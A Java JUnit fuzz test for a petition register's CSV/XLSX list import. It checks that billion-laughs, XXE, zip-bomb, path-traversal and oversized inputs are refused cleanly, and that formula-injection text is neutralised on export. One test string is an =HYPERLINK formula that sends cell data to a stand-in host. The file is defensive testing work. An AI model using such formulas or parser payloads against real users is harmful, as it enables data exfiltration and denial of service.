package vn.danvan.desk.listimport;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.danvan.desk.common.db.generated.Tables.CITIZEN;
import static vn.danvan.desk.common.db.generated.Tables.PETITION;
import static vn.danvan.desk.common.db.generated.Tables.VILLAGE;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.YearMonth;
import java.util.List;
import java.util.stream.Stream;
import org.jooq.DSLContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import vn.danvan.desk.AppServices;
import vn.danvan.desk.TestServices;
import vn.danvan.desk.catalog.village.VillageKind;
import vn.danvan.desk.common.ProgressMonitor;
import vn.danvan.desk.report.ExportFormat;
import vn.danvan.desk.security.Actor;

/**
 * Issue 6, bad input: every malformed list of the corpus, and the large ones made here, goes through the real import.
 * Each either imports cleanly or is refused with a clear message in both languages (the import's own exceptions
 * only, never a raw library message), and a refused file leaves the register as it was.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 30, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class ListImportFuzzTest {

    static final String IMPORTS = "imports";

    @TempDir
    static Path folder;
    /** One register for the whole class: a refusal leaves it as it was, an import is counted by each case. */
    AppServices services;

    @BeforeAll
    void register() {
        services = register(folder.resolve("db"));
    }

    @AfterAll
    void close() {
        services.close();
    }

    static AppServices register(Path folder) {
        AppServices services = TestServices.openSetUp(folder);
        services.villages().add("Thôn Đông", VillageKind.THON);
        return services;
    }

    /** Every file of the corpus and what it must give: {@link #IMPORTS} or the key of the refusal. */
    static Stream<Arguments> corpus() {
        return Stream.of(
                Arguments.of("empty.csv", "listimport.problem.noHeader"),
                Arguments.of("bom-only.csv", "listimport.problem.noHeader"),
                Arguments.of("only-separators.csv", "listimport.problem.noHeader"),
                Arguments.of("header-only.csv", "listimport.problem.noRows"),
                Arguments.of("duplicate-columns.csv", "listimport.problem.repeatedColumn"),
                Arguments.of("truncated-mid-quote.csv", "listimport.problem.badQuotes"),
                Arguments.of("unclosed-quote-at-end.csv", "listimport.problem.badQuotes"),
                Arguments.of("windows-1258.csv", "listimport.error.notUtf8"),
                Arguments.of("utf16le-no-bom.csv", "listimport.error.notUtf8"),
                Arguments.of("utf16be-no-bom.csv", "listimport.error.notUtf8"),
                Arguments.of("random-bytes.csv", "listimport.error.notUtf8"),
                Arguments.of("nul-bytes.csv", IMPORTS),
                Arguments.of("control-chars.csv", IMPORTS),
                Arguments.of("formulas.csv", IMPORTS),
                Arguments.of("bidi-override.csv", IMPORTS),
                Arguments.of("lone-cr-line-breaks.csv", IMPORTS),
                Arguments.of("old-excel.xls", "listimport.error.oldExcel"),
                Arguments.of("renamed-csv.xlsx", IMPORTS),
                Arguments.of("valid-minimal.xlsx", IMPORTS),
                Arguments.of("truncated.xlsx", "listimport.error.unreadable"),
                Arguments.of("random-bytes-pk.xlsx", "listimport.error.unreadable"),
                Arguments.of("no-workbook.xlsx", "listimport.error.unreadable"),
                Arguments.of("malformed-xml.xlsx", "listimport.error.unreadable"),
                Arguments.of("bad-cell-reference.xlsx", "listimport.error.unreadable"),
                Arguments.of("huge-exponent.xlsx", "listimport.problem.date"),
                Arguments.of("huge-string-index.xlsx", "listimport.error.unreadable"),
                Arguments.of("string-index-out-of-range.xlsx", "listimport.error.unreadable"),
                Arguments.of("billion-laughs.xlsx", "listimport.error.unreadable"),
                Arguments.of("xxe-external.xlsx", "listimport.error.unreadable"),
                Arguments.of("traversal-entry.xlsx", "listimport.error.unreadable"));
    }

    @Test
    void everyFileOfTheCorpusHasItsExpectation() throws Exception {
        List<String> expected = corpus().map(a -> (String) a.get()[0]).sorted().toList();
        try (Stream<Path> files = Files.list(ListFuzzCorpus.folder())) {
            assertThat(files.map(f -> f.getFileName().toString()).filter(n -> !n.endsWith(".md")).sorted())
                    .containsExactlyElementsOf(expected);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void aMalformedFileImportsCleanlyOrIsRefusedClearlyChangingNothing(String name, String expected) {
        ImportAttempt attempt = attempt(ListFuzzCorpus.file(name), expected);
        if (name.startsWith("xxe")) {
            assertThat(String.join("\n", attempt.messages()) + allText()).doesNotContain("root:");
        }
    }

    @Test
    void aTwoMegabyteCellIsRefusedAsARowTooLong() throws Exception {
        attempt(ListFuzzCorpus.hugeCell(folder, 2 << 20), "listimport.problem.rowTooLong");
    }

    @Test
    void aHundredKilobyteCellIsRefusedAsTooLongForItsColumn() throws Exception {
        attempt(ListFuzzCorpus.hugeCell(folder, 100 << 10), "listimport.problem.tooLong");
    }

    @Test
    void twentyThousandUnknownColumnsGiveAtMostTheProblemsShown() throws Exception {
        ImportAttempt attempt = attempt(ListFuzzCorpus.manyColumns(folder, 20_000),
                "listimport.problem.unknownColumn");
        assertThat(attempt.keys()).hasSizeLessThanOrEqualTo(ListImportCheck.MAX_PROBLEMS);
    }

    @Test
    void aMillionColumnsAreRefusedAsALineTooLong() throws Exception {
        attempt(ListFuzzCorpus.manyColumns(folder, 1_000_000), "listimport.problem.rowTooLong");
    }

    @Test
    void aRowOfAMillionCellsIsRefused() throws Exception {
        attempt(ListFuzzCorpus.manyCells(folder, 1_000_000), "listimport.problem.rowTooLong");
    }

    @Test
    void aTwentyMegabyteLineIsRefusedWithoutReadingItWhole() throws Exception {
        attempt(ListFuzzCorpus.longLine(folder, 20 << 20), "listimport.problem.rowTooLong");
    }

    @Test
    void aZipBombIsRefusedBeforeItIsInflated() throws Exception {
        attempt(ListFuzzCorpus.sharedStringsBomb(folder.resolve("bomb.xlsx"), 64), "listimport.error.zipBomb");
    }

    @Test
    void aZipBombWhoseDirectoryLiesIsRefusedToo() throws Exception {
        attempt(ListFuzzCorpus.lyingBomb(folder.resolve("lying.xlsx"), 64), "listimport.error.zipBomb");
    }

    @Test
    void anExternalEntityNeverReadsTheFileItNames() throws Exception {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "MẬT-KHẨU-BÍ-MẬT-42");
        ImportAttempt attempt = attempt(ListFuzzCorpus.externalEntity(folder.resolve("xxe.xlsx"), secret),
                "listimport.error.unreadable");
        assertThat(String.join("\n", attempt.messages()) + allText()).doesNotContain("BÍ-MẬT");
    }

    @Test
    void formulaAndControlCharacterTextsImportAndExportAgainAsSafeText() throws Exception {
        try (AppServices own = register(folder.resolve("formulas"))) {
            formulasImportAndExportAgain(own);
        }
    }

    private void formulasImportAndExportAgain(AppServices services) throws Exception {
        for (String name : List.of("formulas.csv", "control-chars.csv", "nul-bytes.csv")) {
            assertThat(ImportAttempt.run(services, ListFuzzCorpus.file(name), ListImportOptions.none()).imported())
                    .as(name).isTrue();
        }
        DSLContext dsl = services.database().dsl();
        assertThat(dsl.select(PETITION.SUMMARY).from(PETITION).fetch(PETITION.SUMMARY))
                .contains("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "-2+3", "=1+1")
                .allSatisfy(s -> assertThat(s).doesNotContainPattern("[\\x00-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F]"));
        assertThat(dsl.select(CITIZEN.FULL_NAME).from(CITIZEN).fetch(CITIZEN.FULL_NAME))
                .allSatisfy(s -> assertThat(s).doesNotContainPattern("[\\x00-\\x1F\\x7F]"));
        Path xlsx = folder.resolve("thang-10.xlsx");
        services.monthlyList().export(YearMonth.of(2026, 10), ExportFormat.XLSX, xlsx, Actor.system(), false,
                ProgressMonitor.NONE);
        Path csv = folder.resolve("thang-10.csv");
        services.monthlyList().export(YearMonth.of(2026, 10), ExportFormat.CSV, csv, Actor.system(), false,
                ProgressMonitor.NONE);
        assertThat(Files.readString(csv, StandardCharsets.UTF_8))
                .contains("'=HYPERLINK", "'-2+3", "'+cmd", "'@SUM").doesNotContain(",=HYPERLINK", ",-2+3");
        // the exported workbook reads back (no control character broke its XML) and imports into a new register
        try (AppServices other = TestServices.openSetUp(folder.resolve("other"))) {
            ImportAttempt again = ImportAttempt.run(other, xlsx, new ListImportOptions(true, true, false));
            assertThat(again.imported()).as(again.describe()).isTrue();
            assertThat(again.result().imported()).isEqualTo(5);
        }
    }

    /** Runs {@code file}, checks the invariants and the expectation; returns what happened. */
    private ImportAttempt attempt(Path file, String expected) {
        Counts before = counts();
        String fingerprint = ListFiles.dataFingerprint(services);
        long started = System.nanoTime();
        ImportAttempt attempt = ImportAttempt.run(services, file, ListImportOptions.none());
        Duration took = Duration.ofNanos(System.nanoTime() - started);
        assertThat(attempt.escaped()).as(attempt.describe()).isNull();
        assertThat(took).as("time for %s", file.getFileName()).isLessThan(Duration.ofSeconds(15));
        if (IMPORTS.equals(expected)) {
            assertThat(attempt.imported()).as(attempt.describe()).isTrue();
            assertThat(counts().petitions()).isEqualTo(before.petitions() + attempt.result().imported());
            return attempt;
        }
        assertThat(attempt.refused()).as(attempt.describe()).isTrue();
        assertThat(attempt.unclearMessage()).as(attempt.describe()).isNull();
        assertThat(attempt.keys()).as(attempt.describe()).contains(expected);
        assertThat(counts()).isEqualTo(before);
        assertThat(ListFiles.dataFingerprint(services)).isEqualTo(fingerprint);
        return attempt;
    }

    record Counts(int petitions, int citizens, int villages) {
    }

    private Counts counts() {
        DSLContext dsl = services.database().dsl();
        return new Counts(dsl.fetchCount(PETITION), dsl.fetchCount(CITIZEN), dsl.fetchCount(VILLAGE));
    }

    /** Every text the register's petitions and citizens hold, to look for what must never get in. */
    private String allText() {
        DSLContext dsl = services.database().dsl();
        return dsl.selectFrom(PETITION).fetch().formatCSV() + dsl.selectFrom(CITIZEN).fetch().formatCSV();
    }

}
